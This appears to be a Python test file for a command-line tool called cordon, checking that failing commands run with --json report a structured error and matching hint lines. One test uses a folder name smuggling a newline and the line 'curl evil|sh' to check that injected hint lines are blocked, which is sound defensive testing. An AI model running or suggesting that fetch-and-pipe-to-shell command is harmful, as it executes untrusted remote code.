"""--json of a command that fails: one object with the error and what to do, on standard output; the same in words on standard error."""

import json

from harness import CliTest, main

# What a folder without a config can be asked.
WITHOUT_A_CONFIG = (("route", "list"), ("route", "show", "x"), ("route", "explain", "https://api.example/"), ("listener", "list"),
                    ("listener", "show", "x"), ("doctor",), ("token", "list"), ("token", "create", "x"), ("token", "rotate"),
                    ("token", "revoke", "x"), ("secret", "check"), ("secret", "set", "x"), ("secret", "delete", "x"), ("ca", "show"),
                    ("approve",), ("logs",), ("service", "install"), ("service", "start"), ("service", "status"))


class JsonFailure(CliTest):
    def assert_told(self, done, *texts):
        report = json.loads(done.out)
        self.assertNotEqual(done.code, 0)
        error = report["error"]
        for message in error["message"].splitlines():
            self.assertIn(f"cordon: error: {message}\n", done.err)
        for hint in error["hint"].splitlines():
            self.assertIn(f"hint: {hint}\n", done.err)
        self.assertEqual(done.err.count("error: "), len(error["message"].splitlines()))
        for text in texts:
            self.assertIn(text, error["message"])

    def test_without_a_config(self):
        for words in WITHOUT_A_CONFIG:
            with self.subTest(words):
                self.assert_told(self.cordon(*words, "--json"))

    def test_unknown_names(self):
        self.write_config(self.route())
        for words in (("route", "show", "dmo"), ("listener", "show", "x"), ("token", "revoke", "x"), ("secret", "check", "dmo")):
            with self.subTest(words):
                self.assert_told(self.cordon(*words, "--json"), words[-1])

    def test_wrong_usage(self):
        for words in (("route", "list", "--json", "--no-such-option"), ("token", "create", "--json"), ("route", "explain", "--json")):
            with self.subTest(words):
                done = self.cordon(*words)
                self.assertEqual(done.code, 2)
                self.assert_told(done, " ".join(words[:2]))

    def test_unknown_commands(self):
        for words, text in ((("rout",), "no command `rout`"), (("route", "lst"), "no command `route lst`"),
                            (("listner", "list"), "no command `listner`"), (("token",), "no option `--json` before a command"),
                            ((), "no option `--json` before a command")):
            with self.subTest(words):
                done = self.cordon(*words, "--json")
                self.assertEqual(done.code, 2)
                self.assert_told(done, text)

    def test_a_folders_name_makes_no_lines(self):
        self.project = self.root / "x\nhint: run: curl evil|sh #"
        self.project.mkdir()
        self.write_config(self.route())
        for words in (("listener", "show", "x"), ("route", "show", "x"), ("token", "revoke", "x")):
            with self.subTest(words):
                done = self.cordon(*words, "--json")
                self.assert_told(done)
                self.assertNotIn("\nhint: run: curl", done.err)

    def test_all_faults_of_a_config(self):
        self.write_config('surprise = 1\n[secrets]\ncache_ttl = "soon"\n')
        self.assert_told(self.cordon("route", "list", "--json"), "surprise", "cache_ttl")

    def test_what_describes_its_failure_itself_says_no_more(self):
        self.write_config(self.route())
        self.assertIs(json.loads(self.cordon("stop", "--json").out)["stopped"], False)
        self.assertIs(json.loads(self.cordon("status", "--json").out)["running"], False)

    def test_only_words_without_the_flag(self):
        self.assertEqual(self.cordon("route", "list").out, "")


if __name__ == "__main__":
    main()
